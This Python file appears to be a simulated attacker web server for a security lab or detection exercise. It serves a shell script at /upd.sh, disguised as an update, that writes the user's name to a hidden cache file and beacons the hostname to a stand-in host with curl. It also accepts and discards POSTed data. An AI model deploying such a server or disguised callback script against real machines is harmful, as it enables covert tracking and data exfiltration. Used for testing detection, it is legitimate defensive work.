"""The attacker's own web server: hands out one harmless script, counts and drops what is sent to it."""

import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT = 8080
BODY_BYTES_MAX = 4_000_000
SCRIPT = b"""#!/bin/sh
# Harmless: notes that it ran and says hello to where it came from.
date >>"$HOME/.cache/.state"
id -un >>"$HOME/.cache/.state"
curl -fsS -A "upd/1.0" -o /dev/null "http://updates.example.net:8080/ping?host=$(hostname)"
"""


class Receiver(BaseHTTPRequestHandler):
    """Answers every GET with the script or a short word, and every POST with a count."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """Hand out the script, or say pong."""
        self._answer(SCRIPT if self.path == "/upd.sh" else b"pong\n")

    def do_POST(self) -> None:
        """Read the body and drop it."""
        length = min(int(self.headers.get("Content-Length", "0")), BODY_BYTES_MAX)
        self._answer(f"{len(self.rfile.read(length))}\n".encode())

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - http.server's name
        """Keep no log: the recording is the network's and the victim's view."""

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    ThreadingHTTPServer((sys.argv[1], PORT), Receiver).serve_forever()
